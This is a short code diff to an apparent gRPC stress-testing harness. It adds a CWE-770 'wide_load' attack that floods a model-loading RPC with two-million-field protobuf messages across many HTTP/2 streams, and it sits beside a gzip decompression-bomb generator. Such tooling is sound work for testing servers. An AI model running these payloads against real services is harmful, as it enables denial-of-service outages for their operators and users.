@@ -148,6 +148,21 @@ def wide_protobuf_stream(dice: random.Random) -> Iterator[Step]:
 
 
 @lru_cache
+def _wide_load() -> bytes:
+    return grpc_message(field(2, ATTACKED) + _repeated(field(3, field(1, b"k")), 2_000_000))
+
+
+@attack("CWE-770", Port.GRPC)
+def wide_load(dice: random.Random) -> Iterator[Step]:
+    """Requests to load a model, of 2 MB that consist of a name and parameters."""
+    yield GREETING
+    header_block = call_block("RepositoryModelLoad")
+    for stream in range(1, LAST_STREAM, 2):
+        yield Window(len(_wide_load()))
+        yield headers(stream, header_block) + data_frames(stream, _wide_load())
+
+
+@lru_cache
 def _bomb() -> bytes:
     piece = bytes(1 << 20)
     return grpc_message(gzip_repeated(b"\x3a" + varint(256 << 20), piece, 256), is_compressed=True)
